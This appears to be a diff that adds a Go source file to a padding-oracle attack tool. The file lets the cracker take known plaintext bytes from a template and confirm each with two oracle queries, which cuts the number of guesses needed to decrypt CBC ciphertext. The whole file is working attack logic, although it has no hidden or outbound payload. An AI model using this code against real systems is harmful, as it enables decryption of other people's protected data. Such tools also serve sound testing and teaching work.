@@ -0,0 +1,205 @@
+//
+// SPDX-FileCopyrightText: Copyright 2026 Frank Schwab
+//
+// SPDX-License-Identifier: Apache-2.0
+//
+// SPDX-FileType: SOURCE
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// You may not use this file except in compliance with the License.
+//
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// Author: Frank Schwab
+//
+// Version: 1.1.0
+//
+// Change history:
+//    2026-10-18: V1.0.0: Created.
+//    2026-10-18: V1.1.0: Confirm a verified byte with a second query.
+//
+
+// This file contains the known plaintext of a message.
+//
+// If parts of the clear message are already known, e.g. fixed JSON keys or protocol headers,
+// the cracker does not need to guess them.
+// It verifies a known byte with a query and a confirming one instead of up to 257.
+// If the verification fails, the byte is guessed as usual.
+
+package attack
+
+import (
+	"errors"
+	"padora/oracle"
+)
+
+// ******** Public types ********
+
+// KnownPlaintext describes the bytes of the clear message that are already known.
+type KnownPlaintext struct {
+	// Text contains the known bytes at their positions in the clear message.
+	// Bytes that are not known may have any value.
+	Text []byte
+	// Known tells for every byte of Text whether it is known.
+	Known []bool
+}
+
+// ******** Public constants ********
+
+// TemplateWildcard marks a byte of unknown value in a known plaintext template.
+const TemplateWildcard = '?'
+
+// TemplateEscape makes the following character of a known plaintext template a known byte.
+const TemplateEscape = '\\'
+
+// ******** Public variables ********
+
+// ErrInvalidTemplate signals that a known plaintext template ends with an escape character.
+var ErrInvalidTemplate = errors.New(`template ends with an escape character`)
+
+// ErrInvalidKnownPlaintext signals that the known bytes and their mask have different lengths.
+var ErrInvalidKnownPlaintext = errors.New(`known plaintext text and mask have different lengths`)
+
+// ******** Private types ********
+
+// knownPlaintextVerifier verifies known bytes and counts the queries this saves.
+type knownPlaintextVerifier struct {
+	known         *KnownPlaintext
+	verifiedCount int
+	savedCount    int
+}
+
+// ******** Public functions ********
+
+// ParseTemplate parses a known plaintext template.
+// Every [TemplateWildcard] is a byte of unknown value, all other bytes are known.
+// A wildcard or escape character preceded by [TemplateEscape] is a known byte.
+func ParseTemplate(template string) (*KnownPlaintext, error) {
+	result := &KnownPlaintext{}
+	for i := 0; i < len(template); i++ {
+		b := template[i]
+		isKnown := b != TemplateWildcard
+		if b == TemplateEscape {
+			i++
+			if i == len(template) {
+				return nil, ErrInvalidTemplate
+			}
+
+			b = template[i]
+		}
+
+		result.Text = append(result.Text, b)
+		result.Known = append(result.Known, isKnown)
+	}
+
+	return result, nil
+}
+
+// KnownCount returns the number of known bytes.
+func (k *KnownPlaintext) KnownCount() int {
+	if k == nil {
+		return 0
+	}
+
+	result := 0
+	for _, isKnown := range k.Known {
+		if isKnown {
+			result++
+		}
+	}
+
+	return result
+}
+
+// Fill returns the text of the known plaintext with every unknown byte taken from a filler function.
+func (k *KnownPlaintext) Fill(filler func() byte) []byte {
+	result := make([]byte, len(k.Text))
+	for i, b := range k.Text {
+		if k.Known[i] {
+			result[i] = b
+		} else {
+			result[i] = filler()
+		}
+	}
+
+	return result
+}
+
+// ******** Private functions ********
+
+// newKnownPlaintextVerifier creates a new verifier for a known plaintext.
+// The known plaintext may be nil.
+func newKnownPlaintextVerifier(known *KnownPlaintext) (*knownPlaintextVerifier, error) {
+	if known != nil && len(known.Text) != len(known.Known) {
+		return nil, ErrInvalidKnownPlaintext
+	}
+
+	return &knownPlaintextVerifier{known: known}, nil
+}
+
+// knownValue returns the known value of the byte at an index of the clear message and whether it is known.
+func (v *knownPlaintextVerifier) knownValue(index int) (byte, bool) {
+	if v.known == nil || index >= len(v.known.Text) || !v.known.Known[index] {
+		return 0, false
+	}
+
+	return v.known.Text[index], true
+}
+
+// verifyValue checks the known value of the byte at position pos of the cracked block with a query
+// and confirms it with a second one in the same way as guessing does.
+// index is the index of the byte in the clear message.
+// Known values that have been rejected before are not verified again.
+// If the known value is not confirmed, it is guessed like any other value.
+// It returns whether the known value is correct and the number of queries.
+func (v *knownPlaintextVerifier) verifyValue(
+	oracle oracle.PaddingOracle,
+	modifiedMessage []byte,
+	previousOriginalBlock []byte,
+	previousModifiedBlock []byte,
+	crackedBlock []byte,
+	index int,
+	pos int,
+	wantedPaddingByte byte,
+	rejectedGuesses *[256]bool) (bool, int, error) {
+	value, isKnown := v.knownValue(index)
+	if !isKnown || rejectedGuesses[value] {
+		return false, 0, nil
+	}
+
+	previousModifiedBlock[pos] = previousOriginalBlock[pos] ^
+		value ^
+		wantedPaddingByte
+
+	isValid, err := oracle.HasValidPadding(modifiedMessage)
+	if err != nil || !isValid {
+		return false, 1, err
+	}
+
+	// The match may be caused by the byte before this one, so disturb it and ask again.
+	// The first byte has no byte before it, so the same question is asked again.
+	if pos > 0 {
+		previousModifiedBlock[pos-1] ^= 0xff
+	}
+
+	isValid, err = oracle.HasValidPadding(modifiedMessage)
+	if err != nil || !isValid {
+		return false, 2, err
+	}
+
+	// Guessing would have needed a query for every value up to the correct one
+	// and the same confirmation.
+	v.verifiedCount++
+	v.savedCount += int(value)
+
+	crackedBlock[pos] = value
+	return true, 2, nil
+}